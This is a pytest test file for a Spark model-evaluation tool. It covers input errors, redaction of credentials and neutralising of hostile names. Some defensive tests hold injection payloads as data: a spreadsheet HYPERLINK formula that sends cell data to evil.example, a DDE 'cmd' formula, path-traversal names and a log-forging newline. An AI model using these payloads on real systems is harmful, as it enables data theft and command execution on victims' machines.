    """A slice column of ids makes the scan's result as large as its input; past spark.driver.maxResultSize
    (1g by default) the job ended in Spark's and Arrow's stack traces and 'failed: Py4JJavaError: An error
    occurred while calling o136.getResult.' (exit 1). Here in a process of its own with a 1 MiB limit."""
    from ctcalc_spark.errors import EXIT_CONFIG
    from tests._cli import run_cli

    rows = binary_eval_rows(n=20_000, runs=(0,))
    rows["user"] = rows["example_id"].astype(str)  # a value per row: ids, not segments
    write_eval(rows, tmp_path / "eval")
    conf = tmp_path / "c.yaml"
    conf.write_text(yaml.safe_dump({
        "input": {"path": str(tmp_path / "eval")}, "output": {"path": str(tmp_path / "out")},
        "columns": {"model": "model", "run": "run", "ds": "ds", "label": "label", "logit": "logit",
                    "example_id": "example_id", "slices": ["user"]},
        "spark": {"master": "local[1]", "conf": {"spark.driver.maxResultSize": "1m"}}}))
    done = run_cli(["evaluate", "--config", str(conf), "--ds", DS], expect=EXIT_CONFIG, timeout=300)
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith("ctcalc evaluate: error: The scan's result (")
    assert "is larger than spark.driver.maxResultSize (1024.0 KiB)" in last
    assert "a slice column with very many values (columns.slices: ['user'])" in last
    assert "Py4JJavaError" not in done.stderr and "toPandas attempted Arrow optimization" not in done.stderr
    assert not (tmp_path / "out" / "metrics").exists()


def test_nanosecond_timestamps_from_pandas_get_the_way_to_write_them(spark, demo_config, tmp_path):
    """pandas writes timestamps in nanoseconds, which Spark 4 cannot read: the error says so and how to write the
    file instead; the advice works."""
    rows = _rows()
    rows["event_time"] = pd.Series(pd.Timestamp("2026-11-21 10:00:00.123456789", tz="UTC"), index=rows.index)
    assert str(rows["event_time"].dtype) == "datetime64[ns, UTC]"
    (tmp_path / "eval" / f"ds={DS}").mkdir(parents=True)
    rows.drop(columns="ds").to_parquet(tmp_path / "eval" / f"ds={DS}" / "part-0.parquet", index=False)
    with pytest.raises(InputError, match=r"A column holds timestamps in nanoseconds, which Spark does not read .* "
                                         r"coerce_timestamps='us'"):  # after Spark's words, which are not asserted
        evaluate(spark, demo_config(), DS, write=False)
    rows.drop(columns="ds").to_parquet(tmp_path / "eval" / f"ds={DS}" / "part-0.parquet", index=False,
                                       coerce_timestamps="us", allow_truncated_timestamps=True)
    assert evaluate(spark, demo_config(), DS, write=False).metrics.loc[0, "n_rows"] == len(rows)


def test_a_column_only_later_days_have_is_told_with_merge_schema(spark, demo_config, tmp_path):
    """A weight column added to the export from the second day on: a range over both days said the table lacks
    'weight' and to rename it in the data, though the later files have it (Spark took one file's columns). The
    error now says which files have it and gives mergeSchema; with it, the first day's rows are invalid rows
    (null weight), named, and the later day evaluates."""
    rows = _rows(weights=True)
    for i, day in enumerate(["2026-11-20", DS]):
        folder = tmp_path / "eval" / f"ds={day}"
        folder.mkdir(parents=True)
        (rows if i else rows.drop(columns="weight")).drop(columns="ds").to_parquet(folder / "p.parquet", index=False)
    cfg = {"columns": {"weight": "weight"}}
    with pytest.raises(InputError, match=re.escape(
            "1 of the 2 files has ['weight'] (first: ds=2026-11-21/p.parquet), the other not (first: "
            "ds=2026-11-20/p.parquet): Spark took the columns from one of those. Set input.options: {mergeSchema: "
            "'true'}")):
        evaluate(spark, demo_config(**cfg), f"2026-11-20..{DS}", write=False)
    merged = demo_config(input__options={"mergeSchema": "true"}, **cfg)
    with pytest.raises(InputError, match=rf"^Invalid evaluation rows for ds=2026-11-20: {N} rows: null weight"):
        evaluate(spark, merged, f"2026-11-20..{DS}", write=False)
    assert evaluate(spark, merged, DS, write=False).metrics.loc[0, "n_rows"] == N


def test_float16_scores_get_the_column_and_how_to_write_it(spark, demo_config, tmp_path):
    """numpy float16 scores (a model served in half precision) written by pandas: Spark said only 'Illegal Parquet
    type: FIXED_LEN_BYTE_ARRAY (FLOAT16)'. Now the error names the column and the cast; the advice works."""
    rows = _rows().assign(logit=lambda d: d["logit"].astype(np.float16))
    (tmp_path / "eval" / f"ds={DS}").mkdir(parents=True)
    path = tmp_path / "eval" / f"ds={DS}" / "part-0.parquet"
    rows.drop(columns="ds").to_parquet(path, index=False)
    with pytest.raises(InputError, match=re.escape("(FLOAT16). SQLSTATE: 42846. The column(s) ['logit'] hold 16-bit "
                                                   "floats (numpy float16), which Spark does not read: write them as "
                                                   "float32 or float64 (pandas: df.astype({'logit': 'float32'})"
                                                   ".to_parquet(path)).")):
        evaluate(spark, demo_config(), DS, write=False)
    rows.drop(columns="ds").astype({"logit": "float32"}).to_parquet(path, index=False)
    assert evaluate(spark, demo_config(), DS, write=False).metrics.loc[0, "n_rows"] == len(rows)


def test_a_date_column_in_nanoseconds_reads_with_nanos_as_long_and_epoch_ns(spark, demo_config, tmp_path):
    """pandas' datetime64[ns] date column (df.to_parquet's default) stopped the job until the file was written
    again; read as numbers (spark.sql.legacy.parquet.nanosAsLong) with columns.ds_format: epoch_ns, the rows
    equal those with YYYY-MM-DD days, exactly, and the hint names epoch_ns for 19-digit days."""
    from ctcalc_spark.config import guess_ds_formats, input_day

    rows = _rows()
    rows.to_parquet(tmp_path / "iso.parquet", index=False)
    times = pd.to_datetime(rows["ds"]) + pd.to_timedelta(np.arange(len(rows)) * 997_003, unit="ms") % pd.Timedelta(
        days=1) + pd.Timedelta(nanoseconds=123)
    assert (times.dt.date.astype(str) == DS).all()
    rows.assign(ds=times).to_parquet(tmp_path / "nanos.parquet", index=False)

    def run(path, **columns):
        cfg = demo_config(input={"path": str(path)}, columns=columns)
        return evaluate(spark, cfg, DS, write=False).metrics.reset_index(drop=True)

    with pytest.raises(InputError, match=r"A column holds timestamps in nanoseconds.*read them as numbers of "
                                         r"nanoseconds as they are: set spark.conf: "
                                         r"\{spark.sql.legacy.parquet.nanosAsLong: true\}, and, when the date column "
                                         r"is one of them, columns.ds_format: epoch_ns\.$"):
        run(tmp_path / "nanos.parquet")
    spark.conf.set("spark.sql.legacy.parquet.nanosAsLong", "true")
    try:
        pd.testing.assert_frame_equal(run(tmp_path / "nanos.parquet", ds_format="epoch_ns"),
                                      run(tmp_path / "iso.parquet"))
        with pytest.raises(InputError, match=r"holds values like '1795\d{15}', not YYYY-MM-DD: set columns.ds_format: "
                                             r"'epoch_ns'\.$"):
            run(tmp_path / "nanos.parquet")
    finally:
        spark.conf.unset("spark.sql.legacy.parquet.nanosAsLong")
    assert guess_ds_formats(["1795219200000000", "1795305599999999"]) == ["epoch_us"]
    assert input_day("epoch_ns", "1970-01-02") == "86400000000000"
    assert input_day("epoch_us", "1970-01-02") == "86400000000"


# ---- the second battery (issue 55) ---------------------------------------------------------------------------

def _written(out: Path) -> list[str]:
    """What a run left under its output folder, lease and commit records aside."""
    return sorted(str(p.relative_to(out)) for p in out.rglob("*") if p.is_file() and "_commits" not in p.parts
                  and not p.name.startswith(".")) if out.exists() else []


def test_dates_that_are_no_yyyy_mm_dd_day_are_rows_of_no_day(spark, demo_config, tmp_path, caplog):
    """'', ' 2026-11-21', '21.11.2026' and '2026-11-32' among ISO days were in no day and no count: exit 0,
    n_invalid 0, no word. They are rows without a date now, counted and reported as a null date is; a time after
    the day still reads as that day."""
    from ctcalc_spark.jobs.evaluate import NO_DATE

    df = _rows()
    df["ds"] = df["ds"].astype(object)
    for i, text in enumerate(["", f" {DS}", "21.11.2026", "2026-11-32", "２０２６-11-21", "x"]):  # full-width digits
        df.loc[i, "ds"] = text
    df.loc[10, "ds"], df.loc[11, "ds"] = f"{DS}T23:30:00-08:00", f"{DS} 13:45"
    (tmp_path / "eval").mkdir()
    df.to_parquet(tmp_path / "eval" / "rows.parquet", index=False)
    with caplog.at_level("WARNING", logger="ctcalc_spark"):
        result = evaluate(spark, demo_config(), DS, write=False)
    assert result.metrics.loc[0, "n_rows"] == N - 6
    assert result.uncounted.to_dict("records") == [{"ds": None, "reason": NO_DATE, "n_rows": 6}]
    assert f"6 rows in no metrics row (no date): {NO_DATE}" in caplog.text
    # a range job (its summaries written from Spark's aggregate, the rows left out observed on the way)
    df.loc[20:, "ds"] = np.where(df.index[20:] % 2 == 0, DS, "2026-11-20")
    df.to_parquet(tmp_path / "eval" / "rows.parquet", index=False)
    ranged = evaluate(spark, demo_config(), f"2026-11-20..{DS}")
    assert ranged.days == ["2026-11-20", DS] and int(ranged.metrics["n_rows"].sum()) == N - 6
    assert ranged.uncounted.to_dict("records") == [{"ds": None, "reason": NO_DATE, "n_rows": 6}]


def test_a_nan_run_or_model_is_an_invalid_row_as_a_null_is(spark, demo_config, tmp_path):
    """A NaN in a float run column was a run of its own ('NaN', 3 rows, counted by compare)."""
    df = binary_eval_rows(n=N, models=("a",), runs=(0, 1))
    df["run"] = df["run"].astype(float)
    df.loc[:2, "run"] = np.nan
    write_eval(df, tmp_path / "eval")
    with pytest.raises(InputError, match=r"3 rows: null \(or NaN\) in the model or run column"):
        evaluate(spark, demo_config(), DS)
    assert not (tmp_path / "out").exists()
    result = evaluate(spark, demo_config(on_invalid="drop"), DS, write=False)
    assert result.metrics[["run", "n_rows"]].to_dict("records") == [{"run": "0.0", "n_rows": N - 3},
                                                                      {"run": "1.0", "n_rows": N}]
    assert result.uncounted.to_dict("records") == [{"ds": DS, "reason": ROW_REASONS[9][1], "n_rows": 3}]


def test_a_slice_value_written_like_the_null_slice_stays_a_slice_of_its_own(spark, demo_config, tmp_path):
    """A slice value that is the text '__null__' merged with the null values into one slice. It gets a backslash
    in front ('\\__null__'), and a value that is already so one more: no two values share a slice."""
    df = _rows()
    df["country"] = np.array([None, NULL_SLICE, "\\" + NULL_SLICE, "DE"], dtype=object)[df.index % 4]
    write_eval(df, tmp_path / "eval")
    m = evaluate(spark, demo_config(columns={"slices": ["country"]}), DS, write=False).metrics
    assert m.set_index("slice_value")["n_rows"].to_dict() == {
        "__all__": N, "DE": N // 4, NULL_SLICE: N // 4, "\\" + NULL_SLICE: N // 4, "\\\\" + NULL_SLICE: N // 4}


@pytest.mark.parametrize(("weights", "message"), [
    # two weights of 1e308 in different summary groups: pandas' compensated group sum gave NaN, the check passed
    # it and the run ended in "AssertionError ... a bug" (exit 70)
    ({0: 1e308, 1: 1e308}, r"too large to sum: .* total weight inf, at most 1e\+150 is allowed"),
    # weights of 1e-300 or subnormal ones: the AUC's product of two weight sums was 0/0, an AssertionError too
    ({"all": 1e-300}, r"too small to multiply: e.g. ds='2026-11-21', model='a', run='0' has a total weight of 4e-298"),
    ({"all": 5e-324}, r"too small to multiply: .* total weight of 1\.98e-321, and at least 1e-150 is needed"),
])
def test_weights_too_large_or_too_small_for_their_sums_are_one_clear_error(spark, demo_config, tmp_path, weights,
                                                                          message):
    df = _rows().assign(weight=1.0)
    for row, w in weights.items():
        if row == "all":
            df["weight"] = w
        else:
            df.loc[row, ["weight", "label", "logit"]] = [w, 1, -3.0 + 6.0 * row]  # far apart: two summary groups
    write_eval(df, tmp_path / "eval")
    with pytest.raises(InputError, match=message + r".* rescale the weights \(e\.g\. divide by their maximum\)"):
        evaluate(spark, demo_config(columns={"weight": "weight"}), DS)
    assert _written(tmp_path / "out") == []


@pytest.mark.parametrize("name", ["../../../x", "a/b", "-x", ".hidden", "..", "x" * 81])
def test_compare_pipelines_names_that_would_leave_the_workdir_are_refused(tmp_path, name):
    """Airflow's compare_pipelines checked its path params against CTCALC_COMPARE_ROOT, and took the pipeline
    names as they were: '../../../x' wrote the model files outside the root."""
    from ctcalc_spark.orchestration.tasks import compare_plan

    params = {"pipeline_a": "deepfm_bn.v2", "spec_a": {}, "pipeline_b": "b", "spec_b": {}, "runs": 1,
              "ds": DS, "config": str(tmp_path / "c.yaml"), "train_path": str(tmp_path / "t.parquet"),
              "features_path": str(tmp_path / "f.parquet"), "workdir": str(tmp_path / "work")}
    plan = compare_plan(params, str(tmp_path), allowed_root=str(tmp_path))
    assert [Path(j["model_path"]).parent.parent for j in plan["train_jobs"]] == [tmp_path / "work" / "models"] * 2
    with pytest.raises(ConfigError, match=r"^The param pipeline_b names the folders of its models and report under "
                                          r"workdir, so it must be letters, digits, '_', '-' and '\.' \(not first\), "
                                          r"at most 80 of them; got .*\. Give the pipeline a plain name, e\.g\. '"):
        compare_plan({**params, "pipeline_b": name}, str(tmp_path), allowed_root=str(tmp_path))


def test_passwords_in_jdbc_urls_without_a_scheme_slash_slash_are_hidden():
    """A metastore's JDBC URL in spark.conf went verbatim into the drift report's JSON (redact knew scheme:// URLs
    only)."""
    from ctcalc_spark.config import config_to_dict
    from ctcalc_spark.redact import redact, url_secrets

    derby = "jdbc:derby:;databaseName=metastore_db;create=true;user=APP;password=hunter2"
    oracle = "jdbc:oracle:thin:scott/tiger7@//db.example:1521/hive"
    cfg = config_from_dict({"input": {"path": "s3a://AKIAX:s3cr3t@bucket/eval"},
                            "spark": {"conf": {"spark.hadoop.javax.jdo.option.ConnectionURL": derby,
                                               "spark.hadoop.hive.metastore.url": oracle}}})
    shown = repr(redact(config_to_dict(cfg)))
    for secret in ("hunter2", "tiger7", "s3cr3t", "AKIAX"):
        assert secret not in shown
    assert "jdbc:derby:;databaseName=metastore_db;create=true;user=APP;password=***" in shown
    assert "jdbc:oracle:thin:***@//db.example:1521/hive" in shown and "s3a://***@bucket/eval" in shown
    assert url_secrets(oracle) == ["scott/tiger7"] and url_secrets(derby) == ["hunter2"]


def test_a_path_with_credentials_is_never_echoed_on_stdout_or_stderr(spark, tmp_path, capsys, restore_ctcalc_logger):
    """An s3a://KEY:SECRET@bucket input path was echoed on stderr by the missing-file-system message. Every line
    a command writes now goes through the redaction (its own messages, log lines, results)."""
    from ctcalc_spark.cli.main import main

    config = tmp_path / "c.yaml"
    config.write_text(f"output: {{path: {tmp_path / 'out'}}}\nsplit: {{salt: t}}\n")
    code = main(["evaluate", "--config", str(config), "--ds", DS, "--set", "input.path=s3a://AKIAX:s3cr3t@bucket/eval"])
    out, err = capsys.readouterr()
    assert code == 3 and "s3cr3t" not in out + err and "AKIAX" not in out + err
    assert "so it cannot open 's3a://***@bucket/eval'" in err
    assert not (tmp_path / "out").exists()


def test_report_csv_cells_that_start_like_a_formula_are_text(tmp_path):
    """Model names beginning with '=', '+', '-' or '@' went into the CSV reports as they were: a spreadsheet
    opening the file ran them as formulas."""
    import csv

    from ctcalc_spark.reports.drift import ReportInput, build_report, write_report_files
    from tests._rows import binary_drift_summaries, day_range

    evil = {"ctr_a": '=HYPERLINK("http://evil.example/?"&A1,"open")', "ctr_b": "@SUM(1+1)"}
    days = day_range("2026-01-05", 21)
    rows = binary_drift_summaries(days, jumps={}, n=200)
    rows["model"] = rows["model"].map(lambda m: evil.get(m, m))
    cfg = config_from_dict({"input": {"path": "unused"}, "output": {"path": "unused"},
                            "histogram": {"bin_width": 0.1}, "rolling": {"window": "week"}})
    report = build_report(ReportInput(rows, pd.DataFrame(), days[0], days[-1], "synthetic"), cfg, days[7], days[-1])
    write_report_files(report, cfg, tmp_path)
    (table,) = tmp_path.glob("drift_*_week.csv")
    cells = [cell for row in csv.reader(table.open()) for cell in row]
    models = {c for c in cells if "HYPERLINK" in c or "SUM(" in c}
    assert models == {"'" + v for v in evil.values()}
    assert not [c for c in cells if c[:1] in ("=", "@", "+")]  # negative numbers stay numbers


def test_a_stream_file_of_other_column_types_is_quarantined_as_such(spark, demo_config, tmp_path):
    """A landed Parquet file whose logit column is text was quarantined as 'corrupt or truncated data'; the
    reason now names the column and both types, and the stream goes on with the other files."""
    from tests.test_stream import _move_files, _stream_config
    from ctcalc_spark.jobs.stream import run_stream, write_stream_demo_files

    gen, src = tmp_path / "gen", tmp_path / "src"
    write_stream_demo_files(str(gen), n_examples_per_day=200, n_runs=1, n_days=1, files_per_day=2)
    good = sorted(gen.glob("*.parquet"))
    texts = pq.read_table(good[1]).to_pandas()
    wrong = tmp_path / "part-x-text.parquet"
    texts.assign(logit=texts["logit"].map(repr)).to_parquet(wrong, index=False)
    _move_files([good[0], wrong], src, time.time() - 600)
    result = run_stream(spark, _stream_config(demo_config, src), trigger="availableNow")
    quarantined = [q for b in result.batches for q in b["quarantined"]]
    assert [Path(q["file"]).name for q in quarantined] == ["part-x-text.parquet"]
    assert quarantined[0]["reason"] == (f"Spark read 0 of the {len(texts)} rows its footer lists (its column 'logit' "
                                        "is string where the stream reads double: a file written with other types)")


@pytest.mark.parametrize("target", ["day", "root"])
def test_a_folder_that_links_back_into_the_input_is_refused_before_the_scan(spark, demo_config, tmp_path, target):
    """A symbolic link in a ds= folder to that folder: Spark followed it 40 times deep and counted the day's 400
    rows as 16,400, exit 0; a link to the table's own folder ended in CONFLICTING_PARTITION_COLUMN_NAMES with no
    detail. A link to a folder outside the table is read as before."""
    write_eval(_rows(), tmp_path / "eval")
    day = tmp_path / "eval" / f"ds={DS}"
    (day / "loop").symlink_to(day if target == "day" else tmp_path / "eval")
    with pytest.raises(InputError, match=rf"^The evaluation table '.*/eval' holds a folder that links back into it: "
                                         rf"ds={DS}/loop -> .*/eval(/ds={DS})?\. Spark follows the link and reads the "
                                         r"files under it again .* Remove the link, or point it at a folder outside"):
        evaluate(spark, demo_config(), DS)
    assert _written(tmp_path / "out") == []
    (day / "loop").unlink()
    write_eval(_rows(ds="2026-11-22"), tmp_path / "elsewhere")  # a day's folder on another disk, linked in
    (tmp_path / "eval" / "ds=2026-11-22").symlink_to(tmp_path / "elsewhere" / "ds=2026-11-22")
    assert list(evaluate(spark, demo_config(), "2026-11-22", write=False).metrics["n_rows"]) == [N]


def test_an_empty_range_with_allow_missing_days_does_not_advise_allow_missing_days(spark, demo_config, tmp_path):
    write_eval(_rows(), tmp_path / "eval")
    with pytest.raises(InputError) as err:
        evaluate(spark, demo_config(), "2026-10-01..2026-10-05", allow_missing_days=True)
    assert "or pass --allow-missing-days" not in str(err.value)
    assert "(--allow-missing-days skips days without rows, and needs one day with rows)" in str(err.value)
    assert _written(tmp_path / "out") == []


@pytest.mark.parametrize(("spec", "message"), [
    ("2026-11-20..2026-13-01", "got '2026-13-01', in --ds '2026-11-20..2026-13-01'."),
    ("2026-11-19,20261121", "got '20261121' (write it 2026-11-21), in --ds '2026-11-19,20261121'."),
    ("2026-11-32", "--ds must be a date like 2026-11-21, got '2026-11-32'."),
])
def test_ds_errors_quote_the_whole_value(spec, message):
    from ctcalc_spark.jobs.evaluate import parse_days

    with pytest.raises(ConfigError) as err:
        parse_days(spec)
    assert str(err.value).endswith(message)


def test_the_days_a_long_range_skips_are_a_set():
    """A 300-year --ds range with --allow-missing-days spent 180 s in two list comprehensions that looked every
    day up in the list of missing days (109,573 x 109,572 comparisons)."""
    from ctcalc_spark.jobs.evaluate import _check_days, parse_days

    days = parse_days("1800-01-01..2099-12-31")
    missing = _check_days(days, [DS], config_from_dict({"input": {"path": "x"}}), True)
    assert isinstance(missing, (set, frozenset)) and len(missing) == len(days) - 1
    assert [d for d in days if d not in missing] == [DS]


def test_names_with_control_characters_path_parts_or_formulas_are_kept_and_shown_on_one_line(
        spark, tmp_path, capsys, restore_ctcalc_logger):
    """Model names are data: a newline, a NUL, '../..' or '=cmd' in one is kept as written in the tables (no two
    names merge), a printed line shows its control characters escaped (a name could forge a line of its own), a
    compare report's folder stays under the output (pathsafe), a CSV report's cell is text."""
    from ctcalc_spark.cli.main import main

    names = ["m\nctcalc evaluate: done", "m\x00x", "../../etc", "=cmd|' /C calc'!A0"]
    df = pd.concat([_rows().assign(model=name, split="remain") for name in names], ignore_index=True)
    write_eval(df, tmp_path / "eval")
    config = tmp_path / "c.yaml"
    config.write_text(f"input: {{path: {tmp_path / 'eval'}}}\noutput: {{path: {tmp_path / 'out'}}}\n"
                      "columns: {split: split}\n")
    assert main(["-q", "evaluate", "--config", str(config), "--ds", DS]) == 0
    out = capsys.readouterr().out
    assert "model=m\\nctcalc evaluate: done run=0" in out and "model=m\\x00x run=0" in out
    assert not [line for line in out.splitlines() if line.startswith("ctcalc evaluate: done")]
    stored = OutputStore(config_from_dict(yaml.safe_load(config.read_text())), spark).read("metrics", days=[DS])
    assert sorted(stored["model"]) == sorted(names) and (stored["status"] == "no_bias_rows").all()


def test_columns_of_other_types_read_as_their_numbers(spark, demo_config, tmp_path):
    """A boolean run column, a decimal label and an integer weight: the same metrics as the plain types (the run
    named 'true'); text numbers with spaces around them are numbers, '1e999' is an infinite score and full-width
    digits are text that is not a number, each counted under its reason."""
    import decimal

    plain = _rows().assign(weight=2.0)
    write_eval(plain, tmp_path / "plain")
    other = pa.Table.from_pandas(plain.drop(columns="ds").assign(
        run=True, weight=2, label=[decimal.Decimal(int(v)) for v in plain["label"]]), preserve_index=False)
    (tmp_path / "eval" / f"ds={DS}").mkdir(parents=True)
    pq.write_table(other, tmp_path / "eval" / f"ds={DS}" / "f.parquet")
    cols = ["n_rows", "log_loss", "calibrated_log_loss", "auc"]
    want = evaluate(spark, demo_config(input__path=str(tmp_path / "plain"), columns={"weight": "weight"}), DS,
                    write=False).metrics
    got = evaluate(spark, demo_config(columns={"weight": "weight"}), DS, write=False).metrics
    assert list(got["run"]) == ["true"]
    pd.testing.assert_frame_equal(got[cols], want[cols])
    texts = _rows().assign(logit=lambda f: f["logit"].map(repr))
    texts.loc[0, "logit"], texts.loc[1, "logit"], texts.loc[2, "logit"] = " 0.5 ", "1e999", "１２"
    write_eval(texts, tmp_path / "texts")
    result = evaluate(spark, demo_config(input__path=str(tmp_path / "texts"), on_invalid="drop"), DS, write=False)
    assert result.metrics.loc[0, ["n_rows", "n_invalid"]].tolist() == [N - 2, 2]
    with pytest.raises(InputError, match=r"1 rows: NaN or infinite logit/prediction; 1 rows: text that is not a "
                                         r"number .* The score column 'logit' holds text such as '１２'\."):
        evaluate(spark, demo_config(input__path=str(tmp_path / "texts")), DS, write=False)


def test_a_range_of_thousands_of_years_is_refused_before_spark_starts():
    from ctcalc_spark.config import MAX_RANGE_DAYS, parse_days

    with pytest.raises(ConfigError, match=r"^The range 0001-01-01\.\.9999-12-31 has 3,652,059 days; a run takes at "
                                          r"most 146,097 \(400 years\)"):
        parse_days("0001-01-01..9999-12-31")
    assert len(parse_days("1700-01-01..2099-12-31")) == MAX_RANGE_DAYS
